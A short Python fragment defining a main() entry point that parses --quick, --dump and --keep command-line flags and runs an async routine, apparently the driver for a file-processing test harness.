def main() -> dict[str, Any]:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0] if __doc__ else None)
    ap.add_argument("--quick", action="store_true", help="30 files, 2 per platform (for the test)")
    ap.add_argument("--dump", type=Path, help="write every file's question and answer to this JSON file")
    ap.add_argument("--keep", action="store_true", help="keep the data dirs, logs and TMPDIR for a look")
    args = ap.parse_args()
    return asyncio.run(amain(args.quick, args.dump, args.keep))


if __name__ == "__main__":
    main()
